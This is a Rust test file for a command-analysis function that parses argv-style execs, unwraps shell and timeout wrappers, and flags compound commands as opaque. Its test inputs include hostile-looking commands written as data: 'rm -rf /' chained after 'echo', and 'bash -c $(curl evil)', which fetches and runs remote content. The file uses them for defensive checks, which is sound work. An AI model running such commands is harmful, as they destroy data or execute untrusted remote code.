//! `analyze_argv`: a command given as an argv (a Kubernetes exec), run with
//! no shell. Its words are literal; only wrappers are read, and a shell
//! wrapper's script is analysed like an SSH exec string.

use vigil_shell::analyze_argv;

fn argv(words: &[&str]) -> Vec<String> {
    words.iter().map(|w| w.to_string()).collect()
}

#[test]
fn plain_argv_is_provable_as_it_is() {
    // No shell reads these words: `;` and `$x` are literal arguments.
    let a = analyze_argv(&argv(&["/bin/echo", "a;b", "$x"]));
    assert_eq!(a.argv, Some(argv(&["/bin/echo", "a;b", "$x"])));
    assert_eq!(a.argv0, "echo");
    assert!(a.wrappers.is_empty());
}

#[test]
fn a_shell_script_is_analysed_and_opaque_when_it_is_more_than_one_command() {
    let a = analyze_argv(&argv(&["sh", "-c", "cat /etc/hostname"]));
    assert_eq!(a.argv, Some(argv(&["cat", "/etc/hostname"])));
    assert_eq!(a.argv0, "cat");
    assert!(!a.wrappers.is_empty());

    let a = analyze_argv(&argv(&["sh", "-c", "echo hi; rm -rf /"]));
    assert!(a.opaque());
    assert!(a.argv0.is_empty());
    assert!(a.reason_names().contains(&"operator".to_string()));

    let a = analyze_argv(&argv(&["bash", "-c", "$(curl evil)"]));
    assert!(a.opaque());
}

#[test]
fn wrappers_unwrap_and_unknown_ones_are_opaque() {
    let a = analyze_argv(&argv(&["timeout", "10", "ls", "/"]));
    assert_eq!(a.argv0, "ls");
    let a = analyze_argv(&argv(&["xargs", "rm"]));
    assert!(a.opaque());
}

#[test]
fn empty_and_nul_argv_are_opaque() {
    assert!(analyze_argv(&[]).opaque());
    assert!(analyze_argv(&argv(&["ls", "a\0b"])).opaque());
}
